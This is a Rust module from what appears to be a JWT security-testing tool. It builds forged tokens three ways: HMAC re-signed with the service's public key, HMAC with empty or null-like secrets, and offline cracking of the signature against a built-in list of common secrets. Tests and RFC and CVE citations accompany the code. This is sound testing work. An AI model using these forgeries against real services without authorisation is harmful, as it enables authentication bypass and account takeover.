//! Secrets that are none: a public key, nothing at all, or a word that everybody knows.

use super::{Class, Forge, NotTested, Variants, mistake};
use crate::alg;
use crate::attempt::Attempt;
use crate::object::quoted;
use crate::public_key::PublicKey;
use crate::signer;
use crate::token::Token;

pub(super) const CLASSES: &[Class] = &[
    mistake(
        "hmac-confusion",
        "HMAC with the service's public key for a secret, in every encoding",
        "anybody who has the public key writes tokens",
        "RFC 8725 section 2.1; CVE-2015-9235, CVE-2016-10555",
        Forge::PublicKey(hmac_confusion),
    ),
    mistake(
        "hmac-empty",
        "HMAC with an empty secret, or with what a missing one is printed as",
        "a key that is not found becomes a secret that everybody knows",
        "RFC 8725 section 3.5; CVE-2019-20933, CVE-2022-23540",
        Forge::Token(hmac_empty),
    ),
    mistake(
        "hmac-weak",
        "HMAC with the service's own secret, found in a list of common ones",
        "anybody with that list writes tokens",
        "RFC 8725 sections 2.2 and 3.5; RFC 7518 section 3.2; CVE-2020-1764",
        Forge::Token(hmac_weak),
    ),
];

const HS: [&str; 3] = ["HS256", "HS384", "HS512"];

fn hmac_confusion(token: &Token, key: &PublicKey) -> Variants {
    let mut attempts = Vec::new();
    for (encoding, secret) in key.encodings(&token.alg) {
        let algs = if encoding.starts_with("SPKI PEM") { &HS[..] } else { &["HS256"] };
        for alg in algs {
            let draft = token.with_header(&token.header.with("alg", quoted(alg)));
            attempts
                .push(Attempt::token(format!("{alg} with {encoding}"), draft.authenticated(alg, &secret)));
        }
    }
    Ok(attempts)
}

fn hmac_empty(token: &Token) -> Variants {
    const SECRETS: &[(&str, &[u8])] = &[
        ("an empty secret", b""),
        ("null", b"null"),
        ("undefined", b"undefined"),
        ("None", b"None"),
        ("nil", b"nil"),
        ("false", b"false"),
        ("[object Object]", b"[object Object]"),
    ];
    let mut attempts = Vec::new();
    for alg in HS {
        let draft = token.with_header(&token.header.with("alg", quoted(alg)));
        for (name, secret) in SECRETS {
            attempts.push(Attempt::token(format!("{alg} with {name}"), draft.authenticated(alg, secret)));
        }
    }
    Ok(attempts)
}

/// The list is tried on the good token here, not on the service: that costs no request.
fn hmac_weak(token: &Token) -> Variants {
    if alg::is_asymmetric(&token.alg) || alg::find(&token.alg).is_none() {
        return Err(NotTested::because(format!("the token is signed with {}, not with a secret", token.alg)));
    }
    let input = token.draft.signing_input();
    let signs =
        |secret: &&&str| signer::hmac(&token.alg, secret.as_bytes(), input.as_bytes()) == token.signature;
    let found = COMMON.iter().find(signs).copied();
    let candidates = found.into_iter().chain([COMMON.first().copied().unwrap_or_default()]);
    // A changed payload shows that it is the secret that was found, and not the token that was repeated.
    let draft = token.with_payload(&token.payload.and("gatepass_attack", "1"));
    let attempt = |secret: &str| {
        Attempt::token(format!("{secret:?}"), draft.authenticated(&token.alg, secret.as_bytes()))
    };
    Ok(candidates.map(attempt).collect())
}

/// Secrets that examples, tutorials and lists of leaked passwords are full of.
const COMMON: &[&str] = &[
    "secret",
    "Secret",
    "SECRET",
    "secretkey",
    "secret_key",
    "secret-key",
    "secretKey",
    "SECRET_KEY",
    "mysecret",
    "mySecret",
    "my_secret",
    "my-secret",
    "mysecretkey",
    "my_secret_key",
    "my-secret-key",
    "supersecret",
    "super_secret",
    "super-secret",
    "supersecretkey",
    "super-secret-key",
    "topsecret",
    "verysecret",
    "jwt",
    "jwtsecret",
    "jwt_secret",
    "jwt-secret",
    "jwtSecret",
    "JWT_SECRET",
    "jwtkey",
    "jwt_key",
    "jwt-key",
    "jwt_token",
    "your-256-bit-secret",
    "your-384-bit-secret",
    "your-512-bit-secret",
    "your_jwt_secret",
    "your-secret-key",
    "your_secret_key",
    "your-secret",
    "yoursecret",
    "your_secret",
    "a-string-secret-at-least-256-bits-long",
    "a-valid-string-secret-that-is-at-least-512-bits-long-which-is-very-long",
    "change-me",
    "changeme",
    "change_me",
    "changeit",
    "changethis",
    "change-this",
    "please-change-me",
    "replace-me",
    "default",
    "key",
    "mykey",
    "my_key",
    "privatekey",
    "private_key",
    "private-key",
    "hmac",
    "hmackey",
    "hs256",
    "HS256",
    "token",
    "tokensecret",
    "token_secret",
    "accesstoken",
    "access_token_secret",
    "refresh_token_secret",
    "auth",
    "authsecret",
    "auth_secret",
    "session",
    "sessionsecret",
    "session_secret",
    "cookie_secret",
    "app",
    "app_secret",
    "appsecret",
    "api",
    "api_secret",
    "apikey",
    "api_key",
    "test",
    "testing",
    "testsecret",
    "test_secret",
    "test-secret",
    "testkey",
    "dev",
    "development",
    "devsecret",
    "dev-secret",
    "prod",
    "production",
    "staging",
    "example",
    "sample",
    "demo",
    "foo",
    "bar",
    "foobar",
    "baz",
    "qwerty",
    "qwertyuiop",
    "password",
    "Password",
    "password1",
    "password123",
    "passw0rd",
    "p@ssw0rd",
    "P@ssw0rd",
    "pass",
    "passphrase",
    "admin",
    "admin123",
    "administrator",
    "root",
    "toor",
    "user",
    "guest",
    "master",
    "letmein",
    "welcome",
    "iloveyou",
    "monkey",
    "dragon",
    "sunshine",
    "princess",
    "football",
    "abc123",
    "a",
    "x",
    "1",
    "0",
    "12",
    "123",
    "1234",
    "12345",
    "123456",
    "1234567",
    "12345678",
    "123456789",
    "1234567890",
    "0123456789",
    "11111111",
    "00000000",
    "000000",
    "111111",
    "123123",
    "654321",
    "hello",
    "helloworld",
    "hello world",
    "hello-world",
    "shhhhh",
    "shhhhhared-secret",
    "keyboard cat",
    "abcdef",
    "abcdefgh",
    "0123456789abcdef",
    "0123456789abcdef0123456789abcdef",
    "00000000000000000000000000000000",
    "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
    "django-insecure",
    "laravel",
    "spring",
    "nodejs",
    "express",
    "node",
    "python",
    "flask",
    "rails",
    "gatepass",
    "null",
    "undefined",
    "None",
    "",
    " ",
];

#[cfg(test)]
mod tests {
    use gatepass_jose::base64url;

    use super::*;

    fn token(secret: &str) -> Token {
        let part = |json: &str| base64url::encode(json.as_bytes());
        let input = format!("{}.{}", part(r#"{"alg":"HS256"}"#), part(r#"{"sub":"ada"}"#));
        let mac = signer::hmac("HS256", secret.as_bytes(), input.as_bytes());
        Token::parse(&format!("{input}.{}", base64url::encode(&mac))).unwrap()
    }

    #[test]
    fn a_common_secret_is_found_without_asking_the_service() {
        let variants = |secret| hmac_weak(&token(secret)).unwrap();
        assert_eq!(variants("hunter2-is-not-on-the-list").len(), 1);
        let found = variants("change-me");
        assert_eq!(found.first().map(|attempt| attempt.variant.as_str()), Some("\"change-me\""));
        let forged = Token::parse(found.first().and_then(Attempt::only_token).unwrap()).unwrap();
        assert_eq!(forged.payload.text("sub").as_deref(), Some("ada"));
        assert_eq!(
            forged.signature,
            signer::hmac("HS256", b"change-me", forged.draft.signing_input().as_bytes())
        );
    }

    #[test]
    fn no_secret_stands_on_the_list_twice() {
        let mut sorted = COMMON.to_vec();
        sorted.sort_unstable();
        sorted.dedup();
        assert_eq!(sorted.len(), COMMON.len());
    }
}
